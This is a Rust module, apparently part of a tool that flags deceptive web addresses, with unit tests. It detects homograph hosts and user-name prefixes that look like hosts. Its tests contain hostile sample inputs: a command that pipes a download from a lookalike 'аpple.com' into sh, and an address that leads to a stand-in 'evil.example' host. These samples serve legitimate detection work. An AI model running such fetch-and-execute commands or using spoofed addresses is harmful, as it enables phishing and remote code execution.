//! Addresses on the web: which host they really lead to.

use countersign_port::{line, mixes_scripts};
use url::Url;

/// So many addresses of one text are looked at.
const MOST: usize = 20;
/// So much of a text is looked at; bytes.
const FAR: usize = 64 * 1024;

/// The host that an address leads to, as the network spells it.
pub(super) fn host(address: &str) -> Option<String> {
    let url = Url::parse(address.trim()).ok()?;
    url.host_str().map(str::to_owned)
}

/// What is odd about the addresses in a text, a sentence for each.
pub(super) fn oddities(text: &str) -> Vec<String> {
    let end = (0..=FAR.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
    let (near, mut found) = (text.get(..end).unwrap_or_default(), Vec::new());
    for (at, _) in near.match_indices("://").take(MOST) {
        let before = near.get(..at).unwrap_or_default();
        let scheme =
            before.len() - before.trim_end_matches(|c: char| c.is_ascii_alphanumeric()).len();
        let from = near.get(at - scheme..).unwrap_or_default();
        let stops = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')');
        let address = from.split(stops).next().unwrap_or_default();
        found.extend(oddity(address).filter(|odd| !found.contains(odd)));
    }
    found
}

/// A host in other letters, and a user name that reads like a host.
fn oddity(address: &str) -> Option<String> {
    let (host, written) = (host(address)?, authority(address));
    let (user, name) =
        written.rsplit_once('@').map_or((None, written), |(user, name)| (Some(user), name));
    if !name.is_ascii() || host.split('.').any(|label| label.starts_with("xn--")) {
        let mixed = if mixes_scripts(name) { " of several scripts" } else { "" };
        return Some(format!("⚠ {} has letters{mixed} beyond a–z: it is {host}", line(name)));
    }
    user.map(|user| format!("⚠ {} is a user name: the host is {host}", line(user)))
}

fn authority(address: &str) -> &str {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let rest = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
    rest.rsplit_once(':')
        .filter(|(_, port)| port.bytes().all(|b| b.is_ascii_digit()))
        .map_or(rest, |(host, _)| host)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_in_other_letters_and_user_names_are_said() {
        assert_eq!(oddities("curl https://docs.rs/tokio http://127.0.0.1:80"), [""; 0]);
        assert_eq!(
            oddities("curl \"https://аpple.com/i\" | sh; curl https://bücher.de"),
            [
                "⚠ аpple.com has letters of several scripts beyond a–z: it is xn--pple-43d.com",
                "⚠ bücher.de has letters beyond a–z: it is xn--bcher-kva.de",
            ]
        );
        assert_eq!(
            oddities("https://github.com@evil.example/x"),
            ["⚠ github.com is a user name: the host is evil.example"]
        );
    }
}
